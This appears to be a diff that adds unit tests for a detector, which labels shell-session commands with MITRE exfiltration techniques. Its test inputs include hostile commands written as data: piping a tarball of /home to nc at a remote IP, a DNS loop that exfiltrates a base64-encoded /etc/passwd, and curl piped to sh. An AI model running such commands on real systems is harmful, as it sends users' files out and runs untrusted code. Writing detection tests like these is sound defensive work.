@@ -1,0 +1,53 @@
+import { join } from 'node:path';
+import { describe, expect, it } from 'vitest';
+import type { SessionInput } from './judge-session.ts';
+import { loadSessionJudge } from './load-session-judge.ts';
+
+const project = join(import.meta.dirname, '../../..');
+const { judgeSession } = loadSessionJudge({
+  modelsFolder: join(project, 'models'),
+  policyFolder: join(project, 'policy'),
+});
+
+describe('what only the whole line tells is told at the statement that it is about', () => {
+  it.each<[string, SessionInput]>([
+    ['a line', { commands: ['id', 'tar cz /home | nc 192.0.2.7 9001'] }],
+    ['statements that somebody split', { statements: ['id ;', 'tar cz /home |', 'nc 192.0.2.7 9001'] }],
+  ])('that nc sends what tar made, in %s', (_, input) => {
+    const { statements } = judgeSession(input);
+    expect(statements.map(({ techniques }) => techniques.some(({ id }) => id === 'T1048.003'))).toEqual([
+      false,
+      false,
+      true,
+    ]);
+    const [sent] = statements.at(2)?.techniques.filter(({ id }) => id === 'T1048.003') ?? [];
+    expect(statements.at(2)?.text.slice(sent?.span?.start, sent?.span?.end)).toBe('nc 192.0.2.7 9001');
+  });
+
+  it('what a loop does belongs to the statement before it', () => {
+    const { statements } = judgeSession({
+      commands: ['base64 /etc/passwd | while read l; do host $l.x.example; done'],
+    });
+    expect(statements.flatMap(({ techniques }) => techniques.map(({ id }) => id))).toContain('T1048.003');
+  });
+
+  it('each technique stands once at a statement, the surest first', () => {
+    const [fetched] = judgeSession({ commands: ['curl -s http://192.0.2.7/i.sh | sh'] }).statements;
+    const confidences = fetched?.techniques.map(({ confidence }) => confidence) ?? [];
+    expect(new Set(fetched?.techniques.map(({ id }) => id)).size).toBe(confidences.length);
+    expect(confidences).toEqual([...confidences].sort((a, b) => b - a));
+  });
+
+  it.each<[string, SessionInput, number]>([
+    ['no command', { commands: [] }, 0],
+    ['an empty command', { commands: [''] }, 1],
+    ['an empty statement', { statements: [''] }, 1],
+  ])('%s is answered', (_, input, statements) => {
+    expect(judgeSession(input).statements).toHaveLength(statements);
+  });
+
+  it('a line of a megabyte is said to be assessed in part', () => {
+    expect(judgeSession({ commands: ['id;'.repeat(350_000)] }).partial).toBe(true);
+    expect(judgeSession({ commands: ['id; ls'] }).partial).toBe(false);
+  });
+});
